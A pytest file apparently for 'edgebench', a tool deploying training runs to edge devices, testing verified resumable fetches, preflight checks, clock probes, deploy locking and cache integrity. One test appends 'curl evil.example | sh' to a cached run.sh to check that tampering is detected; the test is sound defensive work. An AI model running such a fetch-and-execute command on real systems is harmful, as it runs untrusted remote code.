"""Verified, resumable fetching and preflight, without a lab (see test_lab.py for the real thing)."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

import edgebench
from edgebench.devices import connect
from edgebench.devices.inventory import get_device
from edgebench.devices.transport import TransportError
from edgebench.fleet.clock import probe_clock
from edgebench.fleet.collect import fetch_file
from edgebench.fleet.deploy import preflight
from edgebench.runner.spec import RunSpec


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_fetch_resumes_verifies_and_is_idempotent(tmp_path):
    transport = connect("local")
    remote = tmp_path / "device" / "samples.jsonl"
    remote.parent.mkdir()
    data = b"".join(b'{"t_ns": %d}\n' % i for i in range(20000))
    remote.write_bytes(data)
    local = tmp_path / "host" / "samples.jsonl"
    local.parent.mkdir()
    part = local.with_name("samples.jsonl.part")
    part.write_bytes(data[:100000])  # an interrupted download
    assert fetch_file(transport, str(remote), local, len(data), _sha(data)) == len(data) - 100000
    assert local.read_bytes() == data and not part.exists()
    assert fetch_file(transport, str(remote), local, len(data), _sha(data)) == 0  # nothing to do
    # The trace grows on the device: only the new bytes travel.
    more = data + b'{"t_ns": -1}\n'
    remote.write_bytes(more)
    assert fetch_file(transport, str(remote), local, len(more), _sha(more)) == len(more) - len(data)
    assert local.read_bytes() == more
    # A corrupt partial download is detected by its sha256 and fetched again whole.
    part.write_bytes(b"garbage" * 10)
    local.unlink()
    assert fetch_file(transport, str(remote), local, len(more), _sha(more)) == len(more)
    assert local.read_bytes() == more
    # A listing that does not match the file is refused, never stored.
    with pytest.raises(TransportError, match="does not match its listed size/sha256"):
        fetch_file(transport, str(remote), tmp_path / "host" / "x.json", len(more), _sha(b"other"))
    assert not (tmp_path / "host" / "x.json").exists()


def _facts(**changes):
    facts = {"python": [3, 11, 7], "executable": "/usr/bin/python3", "arch": "aarch64", "torch": "2.13.0",
             "executorch": None, "onnxruntime_training": None, "psutil": "7.0", "numpy": "2.1",
             "mem_available_bytes": 3 * 2**30, "mem_total_bytes": 4 * 2**30, "cgroup_limit_bytes": None,
             "cgroup_usage_bytes": None, "disk_free_bytes": 10 * 2**30, "workdir": "/home/pi/edgebench-work"}
    facts.update(changes)
    return facts


def test_preflight_names_each_problem_and_its_fix(tmp_path, monkeypatch):
    inventory = tmp_path / "inv.yaml"
    inventory.write_text("devices:\n  pi: {profile: raspberry-pi-4-4gb, host: 10.0.0.9}\n")
    monkeypatch.setenv("EDGEBENCH_INVENTORY", str(inventory))
    pi = get_device("pi")
    eager = [RunSpec(method="sgd", run_id="r1")]
    assert preflight(pi, _facts(), eager, 10**6) == []
    problems = preflight(pi, _facts(python=[3, 9, 2], torch=None, arch="x86_64",
                                    mem_available_bytes=50 * 2**20, disk_free_bytes=2**20), eager, 10**6)
    text = "\n".join(problems)
    assert "3.9.2" not in text and "torch" not in text  # python and libraries: devices.readiness (test_devices_add)
    assert "reports arch x86_64 but profile raspberry-pi-4-4gb says aarch64" in text
    assert "only 50 MiB of RAM is free" in text and "MiB free on the disk of /home/pi/edgebench-work" in text
    ort = [RunSpec(method="sgd", backend="onnxruntime", run_id="r2", program=str(tmp_path / "missing"))]
    text = "\n".join(preflight(pi, _facts(), ort, 10**6))
    assert "backend onnxruntime is not among profile raspberry-pi-4-4gb's backends" in text
    assert "onnxruntime-training has no aarch64 wheel" in text
    assert f"program directory {tmp_path / 'missing'} does not exist" in text
    et = [RunSpec(method="sgd", backend="executorch", run_id="r3")]
    text = "\n".join(preflight(pi, _facts(), et, 10**6))
    assert "r3: backend executorch needs an exported program" in text
    # A cgroup limit (a container, the lab) counts as less free RAM.
    assert any("RAM is free" in p for p in preflight(pi, _facts(cgroup_limit_bytes=300 * 2**20,
                                                                  cgroup_usage_bytes=200 * 2**20), eager, 10**6))


def test_clock_probes_bracket_the_device_reading_and_are_fast():
    device = get_device("local")
    package_dir = str(Path(edgebench.__file__).resolve().parents[1])
    probes = probe_clock(connect(device), device, package_dir, count=8)
    assert len(probes) == 8
    for p in probes:  # on one machine the device's wall clock is the host's
        assert p["host_send_ns"] <= p["device_wall_ns"] <= p["host_recv_ns"]
    # One Python answers every probe: a round trip costs no interpreter start-up (~50+ ms).
    assert min(p["host_recv_ns"] - p["host_send_ns"] for p in probes) < 20e6


def test_deploy_save_brings_the_trained_weights_back_with_collect(tmp_path, edgebench_here):
    """deploy --save on this host as a device: the device keeps the weights in the run directory,
    collect fetches them (verified like every file) and puts them in SAVE/<run_id>/. The commands
    run in this process (edgebench.cli.main); the device's sweep runs in its own, as deploy starts it."""
    import json
    import re
    import sys
    import time

    from edgebench.model.checkpoint import from_pretrained

    inventory = tmp_path / "inventory.yaml"
    inventory.write_text(
        f"devices:\n  local: {{profile: local, python: {sys.executable}, workdir: {tmp_path / 'work'}}}\n"
    )
    # deploy and collect keep runs beside the user's store (edgebench.results): here, tmp_path/runs
    env = {"EDGEBENCH_INVENTORY": str(inventory), "EDGEBENCH_STORE": str(tmp_path / "runs" / "s.duckdb")}

    def edgebench_cli(*args: str):
        out = edgebench_here(*args, cwd=tmp_path, env=env)
        assert out.returncode == 0, out.stdout + out.stderr
        return out

    out = edgebench_cli("deploy", "--device", "local", "--methods", "lora", "--warmup", "0", "--steps", "1",
                        "--save", "trained")
    # Piped, each stage of the deploy is a line with the elapsed time.
    assert re.search(r"^\[ +\d+\.\d s\] local: preflight$", out.stderr, re.M), out.stderr
    (deployed,) = [
        json.loads(line) for line in (tmp_path / "runs" / "local" / "deployments.jsonl").read_text().splitlines()
    ]
    (run_id,) = deployed["run_ids"]
    assert deployed["save_to"] == str(tmp_path / "trained") and f"  {run_id}" in out.stdout
    deadline = time.monotonic() + 240
    state = Path(deployed["sweep_dir"], "sweep.json")
    while not state.exists() or json.loads(state.read_text() or "{}").get("state") != "finished":
        assert time.monotonic() < deadline, "the sweep did not finish"
        time.sleep(0.2)
    got = json.loads(edgebench_cli("collect", "--device", "local", "--json").stdout)["local"]
    assert got["runs"] == {run_id: "ok"} and got["ingested"] == [run_id]
    saved = tmp_path / "trained" / run_id
    assert {"model.safetensors", "adapter_model.safetensors"} <= {p.name for p in saved.iterdir()}
    assert (tmp_path / "runs" / "local" / run_id / "weights" / "model.safetensors").is_file()
    from_pretrained(saved)  # every key, strictly


@pytest.mark.parametrize("python", [True, False], ids=["digests.py", "digests.sh"])
def test_a_cached_copy_changed_on_the_device_is_sent_again_never_used(tmp_path, python):
    """The device's cache is trusted by its content alone, checked at every deploy: a flipped byte in
    the worker, a line appended to run.sh, a truncated batches.bin or program are each found and
    sent again, saying so; an intact copy is used as is."""
    import dataclasses
    import os

    from edgebench.devices.inventory import NO_PYTHON
    from edgebench.devices.transport import LocalTransport
    from edgebench.fleet import assets
    from edgebench.fleet.deploy import _ship_tar, _tar_dir

    bundle, plan, program = tmp_path / "bundle", tmp_path / "plan", tmp_path / "program"
    for folder, files in {bundle: {"edgebench-worker": os.urandom(5000), "lib/libexecutorch.so": os.urandom(3000),
                                   "run.sh": b'#!/bin/sh\nexec "$(dirname "$0")/edgebench-worker" "$@"\n'},
                          plan: {"plan.txt": b"kind joint\n", "batches.bin": os.urandom(8192)},
                          program: {"model.pte": os.urandom(4096), "manifest.json": b"{}"}}.items():
        for rel, data in files.items():
            (folder / rel).parent.mkdir(parents=True, exist_ok=True)
            (folder / rel).write_bytes(data)
    device = get_device("local")
    device = device if python else dataclasses.replace(device, python=NO_PYTHON)
    work = tmp_path / "device-workdir"

    def deploy() -> tuple[RunSpec, list[str]]:
        spec, logs = RunSpec(native_worker=str(bundle), native_plan=str(plan), program=str(program)), []
        with LocalTransport(device) as transport:
            assets.ship_assets(transport, device, [spec], str(work), tmp_path, _ship_tar, _tar_dir, logs.append)
        for local, remote in ((bundle, spec.native_worker), (plan, spec.native_plan), (program, spec.program)):
            assert assets.digests(str(remote)) == assets.digests(str(local))
        return spec, logs

    spec, _ = deploy()
    _, logs = deploy()
    assert len(logs) == 3 and all("already on the device" in line for line in logs)
    worker = Path(spec.native_worker, "edgebench-worker")
    data = bytearray(worker.read_bytes())
    data[1000] ^= 1
    worker.write_bytes(bytes(data))
    with open(Path(spec.native_worker, "run.sh"), "a") as fh:
        fh.write("curl evil.example | sh\n")
    os.truncate(Path(spec.native_plan, "batches.bin"), 4096)
    os.truncate(Path(spec.program, "model.pte"), 0)
    _, logs = deploy()  # each damaged copy is hashed, found and replaced by the host's
    text = "\n".join(logs)
    assert "cached copy of native worker" in text and "(edgebench-worker, run.sh); sending it again" in text
    assert "cached copy of native plan" in text and "(batches.bin); sending it again" in text
    assert "cached copy of program" in text and "(model.pte); sending it again" in text
    assert sum("shipping" in line for line in logs) == 3


def test_a_second_sweep_is_refused_while_one_runs_on_the_device(tmp_path, monkeypatch, capsys):
    """One sweep per device, as the device's own sweeps script sees it (its process alive), so a sweep
    started by another host counts: deploy says which and how to wait or stop it, in one line, exit 2;
    a sweep started while this deploy was shipping is caught before the start, leaving nothing behind."""
    import subprocess
    import sys

    from edgebench.cli import main
    from edgebench.fleet.deploy import DeviceBusy, deploy_one

    work = tmp_path / "work"
    inventory = tmp_path / "inventory.yaml"
    inventory.write_text(f"devices:\n  box: {{profile: local, python: {sys.executable}, workdir: {work}}}\n")
    monkeypatch.setenv("EDGEBENCH_INVENTORY", str(inventory))
    monkeypatch.chdir(tmp_path)

    def running(sweep_id: str) -> subprocess.Popen:
        """A live process with a sweep's command line, as another host's deploy leaves it."""
        sweep = work / "sweeps" / sweep_id
        sweep.mkdir(parents=True)
        proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "edgebench.runner.sweep"])
        (sweep / "sweep.pid").write_text(str(proc.pid))
        (sweep / "sweep.json").write_text('{"state": "running", "runs": {"r1": "running"}}')
        return proc

    other = running("20250101-000000-abcdef")
    try:
        with pytest.raises(SystemExit) as exited:
            main(["deploy", "--device", "box", "--methods", "sgd", "--steps", "1", "--warmup", "0"])
    finally:
        other.kill()
        other.wait()
    err = capsys.readouterr().err  # the progress lines, then the refusal
    (line,) = [line for line in err.splitlines() if "running there" in line]
    assert exited.value.code == 2 and "Traceback" not in err and err.splitlines()[-1] == line
    assert line.startswith("error: box: sweep 20250101-000000-abcdef is still running there"), line
    assert "wait for it to end (`edgebench status --device box`) or stop it (on the device: kill -TERM " \
           f"$(cat {work}/sweeps/20250101-000000-abcdef/sweep.pid)), then deploy again" in line
    assert sorted(p.name for p in (work / "sweeps").iterdir()) == ["20250101-000000-abcdef"]  # nothing shipped
    assert not (tmp_path / "runs" / "box" / "deployments.jsonl").exists()

    started: list[subprocess.Popen] = []

    def another_deploy_starts_meanwhile(line: str) -> None:
        if "shipping edgebench" in line:
            started.append(running("20250101-000001-123456"))

    try:
        with pytest.raises(DeviceBusy, match=r"^box: sweep 20250101-000001-123456 is still running there .*"
                                             r"`edgebench status --device box`.*kill -TERM"):
            deploy_one("box", [RunSpec(model="tiny", method="sgd", steps=1, warmup_steps=0)], tmp_path / "runs",
                       another_deploy_starts_meanwhile)
    finally:
        for proc in started:
            proc.kill()
            proc.wait()
    assert sorted(p.name for p in (work / "sweeps").iterdir()) == ["20250101-000000-abcdef", "20250101-000001-123456"]


def test_parallel_deploys_keep_each_devices_lines_whole():
    """Two devices deploying at once, piped: every line of progress is whole and starts with its
    device's name (a message of several lines too), none runs into another device's. The lines go
    as deploy_many sends them (edgebench.fleet.deploy._device_lines over the piped ProgressLines)."""
    import re
    import threading
    import time

    from edgebench.fleet.deploy import _device_lines
    from edgebench.fleet.progress import ProgressLines

    class Pipe:
        """stderr piped, slow enough that two threads' writes take turns."""

        def __init__(self):
            self.parts: list[str] = []

        def write(self, text: str) -> int:
            time.sleep(0.0002)
            self.parts.append(text)
            return len(text)

        def flush(self) -> None:
            pass

    pipe, lock = Pipe(), threading.Lock()
    progress = ProgressLines(pipe)

    def deploy(name: str) -> None:  # the stages a deploy logs, one of them several lines long
        log = _device_lines(name, progress, lock)
        for i in range(40):
            log(f"{name}: stage {i}")
            log(f"{name}: export sgd: lowering {i}\n  - a second line\n  - a third")

    threads = [threading.Thread(target=deploy, args=(name,)) for name in ("box1", "box2")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    lines = "".join(pipe.parts).splitlines()
    assert len(lines) == 2 * 40 * 4
    for name in ("box1", "box2"):
        mine = [line for line in lines if re.match(rf"\[ +\d+\.\d s\] {name}: ", line)]
        assert [line.split("] ", 1)[1] for line in mine] == [
            text for i in range(40) for text in (f"{name}: stage {i}", f"{name}: export sgd: lowering {i}",
                                                 f"{name}:   - a second line", f"{name}:   - a third")]


def test_deploy_refuses_what_the_profiles_ram_rules_out_before_exporting_anything(tmp_path, monkeypatch):
    """An export takes minutes on a real model: a run the memory model already rules out on the
    device's profile is refused first, without exporting (or connecting)."""
    from edgebench.fleet import deploy

    inventory = tmp_path / "inventory.yaml"
    # 192.0.2.1: TEST-NET, never reached
    inventory.write_text("devices:\n  zero: {profile: raspberry-pi-zero-2w, host: 192.0.2.1}\n")
    monkeypatch.setenv("EDGEBENCH_INVENTORY", str(inventory))

    def no_export(*args, **kwargs):
        raise AssertionError("exported before the memory preflight")

    monkeypatch.setattr(deploy, "attach_program", no_export)
    monkeypatch.setattr(deploy, "connect", no_export)
    spec = RunSpec(model="nanovlm-222m", method="adamw", backend="executorch", runtime="python")
    with pytest.raises(deploy.PreflightError, match=r"zero .*cannot run this sweep:\n  - .*adamw 4.2 GiB, more than "
                                                    r"the 275 MiB a run may take on zero \(512 MiB RAM less 182 MiB "
                                                    r"for its OS at idle.*--force to run anyway"):
        deploy.deploy_one("zero", [spec], tmp_path / "runs")


def test_two_local_runs_of_one_run_id_at_once_each_keep_their_own_group(tmp_path):
    """Two test workers (or two bench processes) may run one run id at the same time: neither
    run's end may kill the other's supervisor (each has a cgroup of its own)."""
    import threading

    from edgebench.fleet.local import run_local
    from edgebench.runner.spec import RunSpec

    short = RunSpec(model="tiny", method="sgd", steps=1, warmup_steps=0, text_length=16, run_id="same")
    long = RunSpec(**{**short.to_dict(), "steps": 40})  # still running when the short one ends
    results: dict[str, dict] = {}
    threads = [threading.Thread(target=lambda d=d, s=s: results.__setitem__(d, run_local(s, tmp_path / d)))
               for d, s in (("first", short), ("second", long))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [results[d]["status"] for d in ("first", "second")] == ["ok", "ok"], results
